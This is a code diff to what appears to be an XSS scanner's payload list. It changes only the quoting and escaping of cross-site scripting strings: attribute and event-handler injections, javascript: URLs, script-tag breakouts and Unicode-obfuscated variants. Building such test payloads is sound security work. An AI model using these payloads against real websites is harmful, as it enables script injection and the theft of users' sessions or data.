@@ -46,14 +46,14 @@ HTML: Final = (
     "<noscript><p title='</noscript><xss-mark>'>",
 )
 ATTRIBUTES: Final = (
-    f"\" onmouseover={_DO} x=\"",
+    f'" onmouseover={_DO} x="',
     f"' onmouseover={_DO} x='",
     f"x onmouseover={_DO} y=",
-    f"\" autofocus onfocus={_DO} x=\"",
-    "\"><xss-mark>",
+    f'" autofocus onfocus={_DO} x="',
+    '"><xss-mark>',
     "'><xss-mark>",
     "`><xss-mark>",
-    f"\" style=\"background:url(javascript:{_DO})",
+    f'" style="background:url(javascript:{_DO})',
 )
 URLS: Final = (
     f"javascript:{_DO}",
@@ -75,9 +75,9 @@ SVG: Final = (
 )
 DATA: Final = (
     f"</script><script>{_DO}</script>",
-    f"\"}}</script><script>{_DO}</script>",
+    f'"}}</script><script>{_DO}</script>',
     f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
-    f"\";{_DO};//",
+    f'";{_DO};//',
     f"${{{_DO}}}",
     f"`;{_DO};`",
     f"'-({_DO})-'",
@@ -94,7 +94,7 @@ TEMPLATES: Final = (
     "[[ 7*7 ]]<xss-mark>",
 )
 ODD: Final = (
-    f"＜script＞{_DO}＜/script＞",
+    f"\uff1cscript\uff1e{_DO}\uff1c/script\uff1e",
     f"\u202e<xss-mark>\u202c{_DO}",
     f"\u2028<script>{_DO}</script>\u2029",
     f"\ufeff<script>{_DO}</script>",
